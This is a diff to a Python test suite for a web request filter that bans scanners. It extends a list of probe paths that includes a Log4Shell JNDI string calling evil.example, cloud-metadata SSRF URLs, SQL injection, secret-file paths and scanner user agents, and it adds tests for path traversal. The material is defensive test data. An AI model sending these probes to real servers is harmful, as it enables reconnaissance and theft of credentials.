@@ -31,12 +31,24 @@ PROBES: list[tuple[str, str, str]] = [
     ("secrets", "/settings.py.bak", BROWSER_UA),
     ("secrets", "/id_rsa", BROWSER_UA),
     ("secrets", "/.DS_Store", BROWSER_UA),
+    ("secrets", "/.travis.yml", BROWSER_UA),
+    ("secrets", "/deep/down/.vscode/launch.json", BROWSER_UA),
+    ("secrets", "/WEB-INF/web.xml", BROWSER_UA),
+    ("secrets", "/app/META-INF/MANIFEST.MF", BROWSER_UA),
+    ("secrets", "/etc/nginx/sites-enabled/default.conf", BROWSER_UA),
+    ("secrets", "/appsettings.Development.json", BROWSER_UA),
+    ("secrets", "/conf/tomcat-users.xml", BROWSER_UA),
+    ("secrets", "/CHANGELOG.md", BROWSER_UA),
     ("wordpress_php", "/wp-login.php", BROWSER_UA),
     ("wordpress_php", "/wp-admin/", BROWSER_UA),
     ("wordpress_php", "/blog/wp-includes/wlwmanifest.xml", BROWSER_UA),
     ("wordpress_php", "/xmlrpc", BROWSER_UA),
     ("wordpress_php", "/phpMyAdmin/", BROWSER_UA),
     ("wordpress_php", "/index.aspx", BROWSER_UA),
+    ("wordpress_php", "/umbraco/", BROWSER_UA),
+    ("wordpress_php", "/CFIDE/adminapi/", BROWSER_UA),
+    ("wordpress_php", "/api/service.svc", BROWSER_UA),
+    ("wordpress_php", "/swagger.json", BROWSER_UA),
     ("metadata", "/proxy?url=http://169.254.169.254/latest/meta-data/", BROWSER_UA),
     ("metadata", "/latest/meta-data/iam/", BROWSER_UA),
     ("metadata", "/fetch?u=http://metadata.google.internal/computeMetadata/v1/", BROWSER_UA),
@@ -52,12 +64,17 @@ PROBES: list[tuple[str, str, str]] = [
     ("iot", "/GponForm/diag_Form?images/", BROWSER_UA),
     ("iot", "/cgi-bin/luci/;stok=/locale", BROWSER_UA),
     ("iot", "/remote/fgt_lang?lang=/../../x", BROWSER_UA),
+    ("iot", "/webui/", BROWSER_UA),
+    ("iot", "/vendor/", BROWSER_UA),
     ("exploits", "/?x=${jndi:ldap://evil.example/a}", BROWSER_UA),
     ("exploits", "/actuator/env", BROWSER_UA),
     ("exploits", "/manager/html", BROWSER_UA),
     ("exploits", "/solr/admin/info/system", BROWSER_UA),
     ("exploits", "/search?q=1 union select null,null--", BROWSER_UA),
     ("exploits", "/autodiscover/autodiscover.json", BROWSER_UA),
+    ("exploits", "/containers/json", BROWSER_UA),
+    ("exploits", "/_cluster/health", BROWSER_UA),
+    ("exploits", "/configprops", BROWSER_UA),
     ("scanners", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
     ("scanners", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
     ("scanners", "/api/v1/me/", "Mozilla/5.0 zgrab/0.x"),
@@ -150,6 +167,14 @@ CORPUS: list[str] = [
     "/exports/7b0c9a7e-1f1e-4b8a-9a57-2c1d3e4f5a6b/download/",
     "/.well-known/security.txt",
     "/.well-known/acme-challenge/Xa3kL9",
+    "/.well-known/openid-configuration",
+    "/accounts/login/?next=/settings.json",
+    "/api/v1/prompts/?search=.env+file+explained",
+    "/p/nagios/",
+    "/p/umbraco/",
+    "/p/graphql-tutor/",
+    "/marketplace/category/config/",
+    "/billing/platform/export.csv?from=2026-01-01&to=2026-02-01",
     "/sitemap.xml",
     "/media/avatars/",
 ]
@@ -212,3 +237,14 @@ def test_exempt_paths_are_never_filtered(client: Client) -> None:
     assert _blocked(client, "/static/.env", "sqlmap/1.7", "203.0.113.11") != 403
     assert _blocked(client, "/healthz", "sqlmap/1.7", "203.0.113.11") == 200
     assert not Ban.objects.exists()
+
+
+def test_an_exempt_prefix_does_not_exempt_traversal_behind_it(client: Client) -> None:
+    assert _blocked(client, "/static/../WEB-INF/web.xml", BROWSER_UA, "203.0.113.11") == 403
+    assert Ban.objects.filter(ip="203.0.113.11").count() == 1
+
+
+def test_an_exempt_prefix_still_skips_the_rules_for_its_files(client: Client) -> None:
+    # A static file whose name a rule would refuse elsewhere is served untouched
+    assert _blocked(client, "/static/build/.built", BROWSER_UA, "203.0.113.12") != 403
+    assert not Ban.objects.filter(ip="203.0.113.12").exists()
